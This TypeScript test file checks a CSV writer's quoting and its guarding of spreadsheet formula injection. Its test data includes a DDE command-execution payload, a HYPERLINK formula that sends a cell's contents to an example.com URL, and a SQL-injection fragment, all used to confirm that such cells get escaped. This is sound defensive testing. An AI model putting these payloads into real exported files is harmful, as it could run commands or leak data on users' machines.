import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import Papa from 'papaparse';
import { byteOrderMark, type Column, dataRow, guarded, headerRow } from './csv.ts';
import { anyCharacter } from '../../test/support/characters.ts';
import { scaled } from '../../test/support/sample.ts';

type Row = Readonly<Record<'one' | 'two' | 'three', string>>;
const columns: readonly Column<Row>[] = (['one', 'two', 'three'] as const).map((name) => ({
  name,
  valueOf: (row) => row[name],
}));

const fileOf = (rows: readonly Row[]) =>
  byteOrderMark + headerRow(columns) + rows.map((row) => dataRow(columns, row)).join('');

/** Two independent parsers, strict as RFC 4180 is. */
const parsers: readonly (readonly [string, (text: string) => unknown[]])[] = [
  ['csv-parse', (text) => parse(text, { bom: true, columns: true, record_delimiter: '\r\n' })],
  [
    'Papa Parse',
    (text) => {
      const { data, errors } = Papa.parse(text, { header: true, newline: '\r\n', skipEmptyLines: 'greedy' });
      expect(errors).toEqual([]);
      return data;
    },
  ],
];

const rowOf = (name: string): Row => ({ one: name, two: 'b', three: name });
const guardedRow = ({ one, two, three }: Row): Row => ({ one: guarded(one), two: guarded(two), three: guarded(three) });

/** Texts that break carelessly written files. */
const hostile = [
  '',
  '"',
  '""',
  '","',
  '"\r\n"',
  'a,b;c\td|e',
  'Mira "Mi" Novak',
  '"; DROP TABLE',
  'line\nline',
  'line\rline',
  'line\r\nline\r\n',
  ' leading and trailing ',
  '\ufeffMira',
  'مرحبا \u200f,"\u202e',
  '👩‍👩‍👧‍👦 "🎷"',
  'é'.normalize('NFD'),
  '\u2028\u2029\u0085',
  'x'.repeat(100),
  '"'.repeat(100),
  "'",
  "O'Neill",
  '\\"',
  '#',
  'NULL',
  '0012',
  '1e5',
];

describe('a file', () => {
  it('has CRLF after each row, and quotes around each cell', () => {
    expect(fileOf([rowOf('a"b')])).toBe('\ufeff"one","two","three"\r\n"a""b","b","a""b"\r\n');
  });

  it('has an empty cell for a value that is absent', () => {
    expect(dataRow([{ name: 'one', valueOf: () => undefined }], {})).toBe('""\r\n');
  });

  it('has numbers as they are', () => {
    expect(dataRow([{ name: 'one', valueOf: () => 17 }], {})).toBe('"17"\r\n');
  });

  it('guards the names of columns, too', () => {
    expect(headerRow([{ name: '-shirt', valueOf: () => '' }])).toBe('"\'-shirt"\r\n');
  });

  it.each(parsers)('is read back by %s as it was written', (_name, read) => {
    const rows = hostile.map(rowOf);
    expect(read(fileOf(rows))).toEqual(rows.map(guardedRow));
  });

  it.each(parsers)('is read back by %s with texts of any characters', (_name, read) => {
    const text = fc.oneof(
      fc.string({ unit: anyCharacter, maxLength: 20 }),
      fc.string({
        unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\t', ' ', '=', '+', '-', '@', "'", 'a', '\ufeff'),
        maxLength: 12,
      }),
    );
    // A row without any text looks like an empty line to one of the parsers.
    const rows = fc.array(fc.record({ one: text, two: fc.constant('b'), three: text }), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(rows, (given) => expect(read(fileOf(given))).toEqual(given.map(guardedRow))),
      {
        numRuns: scaled({ all: 100, sample: 20 }),
      },
    );
  });
});

describe('a guarded cell', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\nx',
    '\tx',
    '\0x',
    ' =1',
    '\u00a0=1',
    '\u3000=1',
    '\ufeff=1',
    '\u200b=1',
    '\u200f+1',
    '"=1',
    '" =1',
    '＝1',
    '＋1',
    '－1',
    '＠A',
    '﹦1',
    '﹢1',
    '﹣1',
    '﹫A',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?"&A1,"Click")',
    '+49 30 123456',
    '-',
    '=',
  ])('has an apostrophe in front: %j', (text) => {
    expect(guarded(text)).toMatch(/^'/);
    expect(guarded(text).replace(/(^|(?<=[;\t\r\n]))'/g, '')).toBe(text);
  });

  it.each([
    ['a;=1+1', "a;'=1+1"],
    ['a; "=1', 'a;\' "=1'],
    ['a\t@A1', "a\t'@A1"],
    ['a\r\n+1', "a\r\n'+1"],
    ['- one\n- two', "'- one\n'- two"],
    ['a;\n=1', "a;\n'=1"],
    ['\t=1', "'\t'=1"],
  ])('has one where a cell would start in a spreadsheet with another separator: %j', (text, expected) => {
    expect(guarded(text)).toBe(expected);
  });

  it.each([
    'Mira Novak',
    'a=b',
    'mira+events@example.com',
    'Jean-Luc',
    '1+1',
    'one, -two',
    'a;b',
    'a\nb',
    "'=1",
    '',
    'עברית',
    '−1',
  ])('is unchanged where nothing can be evaluated: %j', (text) => {
    expect(guarded(text)).toBe(text);
  });

  it('takes no longer for a long text than its length', () => {
    const started = performance.now();
    for (const text of [' '.repeat(1e6), ';'.repeat(1e6), '; '.repeat(5e5), '"'.repeat(1e6), '\n'.repeat(1e6)])
      guarded(text);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
